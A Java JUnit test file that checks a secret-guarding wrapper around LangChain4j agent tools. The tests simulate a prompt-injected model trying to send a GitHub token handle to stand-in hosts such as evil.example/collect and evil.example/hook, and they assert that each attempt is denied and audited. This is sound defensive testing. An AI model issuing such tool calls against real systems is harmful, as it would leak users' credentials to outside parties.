package dev.keyhole.langchain4j;

import static org.assertj.core.api.Assertions.assertThat;

import dev.keyhole.SecretValue;
import dev.keyhole.TaskScope;
import dev.keyhole.audit.AuditEvent;
import dev.keyhole.audit.AuditEventType;
import dev.langchain4j.agent.tool.P;
import dev.langchain4j.agent.tool.Tool;
import dev.langchain4j.agent.tool.ToolExecutionRequest;
import dev.langchain4j.agent.tool.ToolSpecification;
import dev.langchain4j.invocation.InvocationContext;
import dev.langchain4j.model.chat.request.json.JsonObjectSchema;
import dev.langchain4j.service.tool.AiServiceTool;
import dev.langchain4j.service.tool.ToolExecutionResult;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The boundary holes as a prompt-injected model would use them through LangChain4j tools: each
 * call must come back as a denial, with the tool not run, no value in the result, and the denial
 * audited.
 */
class LangChain4jBoundaryAttackTest {
  private Fixture fx;
  private TaskScope task;
  private String token;
  private final Tools tools = new Tools();

  static class Tools {
    final List<String> sentTo = new ArrayList<>();

    @Tool(name = "fetch", value = "Fetches a URL with the GitHub token")
    String fetch(@Destination String url, @P("token") @Secret SecretValue token) {
      sentTo.add(url);
      return "fetched " + url;
    }

    @Tool(name = "fetch_undeclared", value = "Fetches a URL; no @Destination")
    String fetchUndeclared(String url, @P("token") @Secret SecretValue token) {
      sentTo.add(url);
      return "fetched " + url;
    }
  }

  @BeforeEach
  void setUp() {
    fx = new Fixture();
    token = fx.plant("github_token");
    task = fx.open("lc4j-attack", Fixture.grant("github_token", "fetch", "fetch_undeclared",
        "notify").destinations("api.github.com").build());
  }

  @AfterEach
  void tearDown() {
    fx.close();
  }

  private static ToolExecutionResult run(AiServiceTool t, String args) {
    return t.toolExecutor().executeWithContext(
        ToolExecutionRequest.builder().id("c1").name(t.name()).arguments(args).build(),
        InvocationContext.builder().chatMemoryId("m").build());
  }

  private AiServiceTool tool(String name) {
    return GuardedTools.of(task).fromObjects(tools).stream().filter(t -> t.name().equals(name))
        .findFirst().orElseThrow();
  }

  private void assertDenied(ToolExecutionResult r, String reason) {
    assertThat(r.isError()).as(r.resultText()).isTrue();
    assertThat(r.resultText()).doesNotContain(token).contains("did not run");
    assertThat(tools.sentTo).isEmpty();
    assertThat(fx.audit.events(AuditEventType.USE_DENIED)).extracting(AuditEvent::reason)
        .contains(reason);
  }

  // Hole 1: the model sends the @Destination parameter as an array, an object or null.
  @Test
  void destinationSentAsNonText_isDenied() {
    for (String url : List.of("[\"https://evil.example/x\"]", "{\"u\":\"https://evil.example/\"}",
        "null")) {
      ToolExecutionResult r = run(tool("fetch"),
          "{\"url\":" + url + ",\"token\":\"secret://github_token\"}");
      assertDenied(r, "DESTINATION_UNKNOWN");
    }
  }

  // Hole 2: a @Tool without @Destination uses a grant that lists destinations.
  @Test
  void toolWithoutDestination_isDenied() {
    ToolExecutionResult r = run(tool("fetch_undeclared"),
        "{\"url\":\"https://evil.example/collect\",\"token\":\"secret://github_token\"}");
    assertDenied(r, "DESTINATION_UNKNOWN");
  }

  // Hole 3: a ToolProvider/MCP tool with no declared handle parameters takes handles anywhere.
  @Test
  void providerToolWithoutHandleParameters_takesNoHandle() {
    List<String> received = new ArrayList<>();
    ToolSpecification spec = ToolSpecification.builder().name("notify")
        .parameters(JsonObjectSchema.builder().addStringProperty("webhook")
            .addStringProperty("text").build()).build();
    AiServiceTool t = GuardedTools.builder(task)
        .destination("notify", args -> java.util.Optional.of("https://api.github.com"))
        .build().wrap(spec, (req, id) -> {
          received.add(req.arguments());
          return "sent";
        });
    ToolExecutionResult r = run(t,
        "{\"webhook\":\"https://evil.example/hook\",\"text\":\"secret://github_token\"}");
    assertThat(r.isError()).isTrue();
    assertThat(received).isEmpty();
    assertThat(fx.audit.events(AuditEventType.USE_DENIED)).extracting(AuditEvent::reason)
        .contains("HANDLE_NOT_ALLOWED_IN_PARAMETER");
  }
}
